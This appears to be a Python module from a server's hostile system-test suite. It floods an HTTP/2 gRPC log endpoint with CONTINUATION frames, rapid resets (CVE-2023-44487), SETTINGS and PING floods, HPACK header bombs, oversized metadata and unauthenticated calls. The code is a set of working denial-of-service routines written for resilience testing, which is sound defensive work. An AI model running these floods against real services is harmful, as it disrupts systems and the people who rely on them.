"""Floods of valid frames, as fast as the server accepts them."""

from __future__ import annotations

import asyncio

from tests.system.hostile import frames
from tests.system.hostile.behaviours.repeated import by_many, until_closed
from tests.system.hostile.frames import END_HEADERS, MAX_FRAME_BYTES, Kind, frame
from tests.system.hostile.peer import Peer, Tally
from tests.system.hostile.target import Target

_CONNECTIONS = 4
_AT_ONCE = 100
GET_TASK_LOGS = "/tasklogs.v1.TaskLogs/GetTaskLogs"


async def continuations(target: Target, tally: Tally) -> None:
    """Headers that continue in frame after frame, with ever larger fields."""
    field = frames.header_block([("x-more", "m" * 4000)])

    async def attack(peer: Peer) -> None:
        await peer.begin()
        stream = peer.next_stream()
        first = frames.header_block(frames.request_fields(GET_TASK_LOGS, scheme=target.scheme))
        await peer.send(frame(Kind.HEADERS, first, stream=stream))

        async def flood() -> None:
            while True:
                await peer.send(frame(Kind.CONTINUATION, field, stream=stream) * _AT_ONCE)
                tally.sent += _AT_ONCE

        await until_closed(peer, flood())

    await by_many(_CONNECTIONS, target, tally, attack)


async def rapid_resets(target: Target, tally: Tally) -> None:
    """Calls that are reset right after they begin (CVE-2023-44487)."""
    fields = frames.request_fields(GET_TASK_LOGS, scheme=target.scheme)

    async def attack(peer: Peer) -> None:
        await peer.begin()

        async def flood() -> None:
            while True:
                streams = [peer.next_stream() for _ in range(_AT_ONCE)]
                await peer.send(
                    *(frames.headers(one, fields) + frames.rst_stream(one) for one in streams)
                )
                tally.sent += _AT_ONCE

        await until_closed(peer, flood())

    await by_many(_CONNECTIONS, target, tally, attack)


async def settings(target: Target, tally: Tally) -> None:
    await _flood_with(frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535}), target, tally)


async def pings(target: Target, tally: Tally) -> None:
    await _flood_with(frame(Kind.PING, b"12345678"), target, tally)


async def _flood_with(one: bytes, target: Target, tally: Tally) -> None:
    async def attack(peer: Peer) -> None:
        await peer.begin()

        async def flood() -> None:
            while True:
                await peer.send(one * _AT_ONCE)
                tally.sent += _AT_ONCE

        await until_closed(peer, flood())

    await by_many(_CONNECTIONS, target, tally, attack)


async def header_bombs(target: Target, tally: Tally) -> None:
    """A field of 3 KB that is put into HPACK's table once and referenced thousands of times."""
    value = b"b" * 3000
    bomb = b"\x40" + b"\x06x-bomb" + frames.integer(len(value), prefix_bits=7) + value
    block = frames.header_block(frames.request_fields(GET_TASK_LOGS, scheme=target.scheme))
    named = b"\xbe" * (MAX_FRAME_BYTES - len(block) - len(bomb) - 1)

    async def attack(peer: Peer) -> None:
        await peer.begin()

        async def flood() -> None:
            while True:
                stream = peer.next_stream()
                payload = block + bomb + named
                await peer.send(frame(Kind.HEADERS, payload, flags=END_HEADERS, stream=stream))
                tally.sent += 1

        await until_closed(peer, flood())

    await by_many(_CONNECTIONS, target, tally, attack)


async def oversized_metadata(target: Target, tally: Tally) -> None:
    """Complete and correct calls with 60 KB of metadata."""
    more = [(f"x-large-{number}", "m" * 4000) for number in range(15)]
    fields = frames.request_fields(GET_TASK_LOGS, scheme=target.scheme, more=more)
    block = frames.header_block(fields)
    pieces = [
        block[start : start + MAX_FRAME_BYTES] for start in range(0, len(block), MAX_FRAME_BYTES)
    ]

    async def attack(peer: Peer) -> None:
        await peer.begin()

        async def flood() -> None:
            while True:
                stream = peer.next_stream()
                await peer.send(
                    frame(Kind.HEADERS, pieces[0], stream=stream),
                    *(frame(Kind.CONTINUATION, piece, stream=stream) for piece in pieces[1:-1]),
                    frame(Kind.CONTINUATION, pieces[-1], flags=END_HEADERS, stream=stream),
                    frames.message(stream, b""),
                )
                tally.sent += 1

        await until_closed(peer, flood())

    await by_many(_CONNECTIONS, target, tally, attack)


async def calls_without_a_token(target: Target, tally: Tally) -> None:
    """Calls that must be refused, up to a hundred in progress on each connection."""
    fields = frames.request_fields(GET_TASK_LOGS, scheme=target.scheme)

    async def attack(peer: Peer) -> None:
        await peer.begin()
        under_way = asyncio.Semaphore(_AT_ONCE)

        async def listen() -> None:
            while True:
                received = await peer.next_frame()
                await peer.take(received)
                if received.kind == Kind.HEADERS and received.flags & frames.END_STREAM:
                    under_way.release()

        async def flood() -> None:
            while True:
                await under_way.acquire()
                stream = peer.next_stream()
                await peer.send(frames.headers(stream, fields), frames.message(stream, b""))
                tally.sent += 1

        async with asyncio.TaskGroup() as group:
            group.create_task(listen())
            group.create_task(flood())

    async def attack_(peer: Peer) -> None:
        try:
            await attack(peer)
        except* (ConnectionError, asyncio.IncompleteReadError):
            raise ConnectionResetError from None

    await by_many(_CONNECTIONS, target, tally, attack_)
